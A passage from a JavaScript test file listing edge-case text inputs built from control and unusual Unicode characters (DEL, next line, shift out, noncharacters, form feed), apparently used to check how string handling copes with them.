  { name: "DEL", make: () => `text${ODD.delete}` },
  { name: "next line", make: () => "text\x85text" },
  { name: "shift out", make: () => "\x0etext\x0f" },
  { name: "noncharacters", make: () => `${ODD.non}\uffff` },
  { name: "form feed", make: () => "text\ftext\v" },
];
